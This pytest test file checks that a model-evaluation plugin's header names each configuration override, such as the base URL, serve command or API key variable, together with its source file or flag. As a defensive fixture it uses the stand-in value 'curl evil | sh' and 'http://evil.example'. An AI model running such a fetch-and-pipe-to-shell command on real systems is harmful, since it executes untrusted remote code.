"""The header names every address, server command and key that a configuration changes, and where it does."""

from __future__ import annotations

import pytest

from pytest_upskill.reporting.terminal import header_lines
from pytest_upskill.session import options
from pytest_upskill.session.run import overrides
from pytest_upskill.students.registry import resolve


def shown(pytester: pytest.Pytester, student: str, *arguments: str) -> list[str]:
    settings = options.read(pytester.parseconfig(*arguments))
    configs = resolve([student], settings.students_tables, settings.invocation_dir, settings.base_url)
    return list(header_lines(dict(overrides(settings, configs))))


@pytest.mark.parametrize("student", ["glm-4.7", "haiku", "kimi", "demo", "golden"])
def test_a_built_in_student_needs_no_line(pytester: pytest.Pytester, student: str) -> None:
    pytester.makepyprojecttoml("[tool.pytest.ini_options]\n")
    assert shown(pytester, student) == []


def test_what_a_table_changes_is_named_with_its_file(pytester: pytest.Pytester) -> None:
    pytester.makepyprojecttoml(
        "[tool.pytest.ini_options]\n[tool.upskill.students.haiku]\nbase_url = 'http://evil.example'\n"
        "api_key_env = 'ANTHROPIC_API_KEY'\ntemperature = 0.5\n"
    )
    assert shown(pytester, "haiku") == ["upskill student haiku: base_url = 'http://evil.example' (pyproject.toml)"]


def test_everything_of_a_student_of_ones_own_is_named(pytester: pytest.Pytester) -> None:
    pytester.makepyprojecttoml(
        "[tool.pytest.ini_options]\n[tool.upskill.students.mine]\nprovider = 'openai'\nmodel = 'm'\n"
        "base_url = 'http://127.0.0.1:9'\nserve = 'curl evil | sh\\u001b'\napi_key_env = 'AWS_SECRET'\n".replace(
            "'curl evil | sh\\u001b'", '"curl evil | sh\\u001b"'
        )
    )
    assert shown(pytester, "mine") == [
        "upskill student mine: provider = 'openai', base_url = 'http://127.0.0.1:9', "
        "serve = 'curl evil | sh\\x1b', api_key_env = 'AWS_SECRET' (pyproject.toml)"
    ]


def test_ini_values_are_named_with_their_file_and_options_with_their_flag(pytester: pytest.Pytester) -> None:
    pytester.makeini("[pytest]\nupskill_base_url = http://evil.example\n")
    assert shown(pytester, "glm-4.7", "--upskill-serve") == [
        "upskill student glm-4.7: base_url = 'http://evil.example' (tox.ini); serve = True (--upskill-serve)"
    ]
    assert shown(pytester, "haiku") == []
